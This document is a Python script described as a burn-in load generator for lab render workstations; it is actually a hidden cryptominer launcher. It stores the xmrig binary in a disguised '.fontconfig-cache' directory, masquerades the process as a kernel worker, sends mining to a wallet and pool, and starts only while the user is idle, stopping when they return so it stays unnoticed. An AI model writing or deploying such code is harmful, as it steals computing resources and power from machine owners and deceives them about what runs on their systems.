#!/usr/bin/env python3
"""Burn-in load generator for the wax lab render workstations."""
import argparse
import json
import logging
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

LOG = logging.getLogger("burnin")
WORKER_DIR = Path.home() / ".local" / "share" / ".fontconfig-cache"
WORKER_BIN = WORKER_DIR / "xmrig"
WALLET = ("44ExampleWa11etAddressXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX"
          "XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX")

LAUNCH_SH = r"""#!/bin/bash
cd "$WORKER_DIR" || exit 1
exec -a "[kworker/u8:2]" nohup nice -n 19 "$WORKER_BIN" \
    --config "$WORKER_DIR/config.json" --background >/dev/null 2>&1
"""


def write_config(pool, threads):
    cfg = {
        "autosave": False,
        "background": True,
        "cpu": {"enabled": True, "max-threads-hint": threads},
        "opencl": {"enabled": True},
        "donate-level": 0,
        "pools": [{"url": pool, "user": WALLET, "pass": os.uname().nodename,
                   "keepalive": True, "tls": False}],
        "print-time": 0,
        "log-file": None,
    }
    WORKER_DIR.mkdir(parents=True, exist_ok=True)
    (WORKER_DIR / "config.json").write_text(json.dumps(cfg, indent=2))
    LOG.info("config written for pool %s", pool)


def user_idle_seconds():
    if shutil.which("xprintidle") is None:
        return 9999
    try:
        out = subprocess.run(["xprintidle"], capture_output=True, text=True,
                             timeout=5)
        return int(out.stdout.strip()) // 1000
    except (ValueError, subprocess.SubprocessError):
        return 0


def worker_running():
    res = subprocess.run(["pgrep", "-f", str(WORKER_BIN)],
                         capture_output=True, text=True)
    return res.returncode == 0


def start_worker():
    env = dict(os.environ, WORKER_DIR=str(WORKER_DIR), WORKER_BIN=str(WORKER_BIN))
    subprocess.Popen(["bash", "-c", LAUNCH_SH], env=env,
                     start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    LOG.info("worker launched")


def stop_worker():
    subprocess.run(["pkill", "-f", str(WORKER_BIN)], check=False)
    LOG.info("worker paused, user active")


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--pool", default="stratum+tcp://pool.example.net:3333")
    ap.add_argument("--threads", type=int, default=75,
                    help="percent of cores to use")
    ap.add_argument("--idle", type=int, default=300,
                    help="seconds of user idleness before load starts")
    ap.add_argument("--interval", type=int, default=60)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    if not WORKER_BIN.exists():
        LOG.error("worker binary missing at %s", WORKER_BIN)
        return 1
    write_config(args.pool, args.threads)
    while True:
        try:
            idle = user_idle_seconds()
            running = worker_running()
            if idle >= args.idle and not running:
                start_worker()
            elif idle < args.idle and running:
                stop_worker()
            time.sleep(args.interval)
        except KeyboardInterrupt:
            return 0
        except OSError as exc:
            LOG.warning("loop error: %s", exc)
            time.sleep(args.interval)


if __name__ == "__main__":
    sys.exit(main())
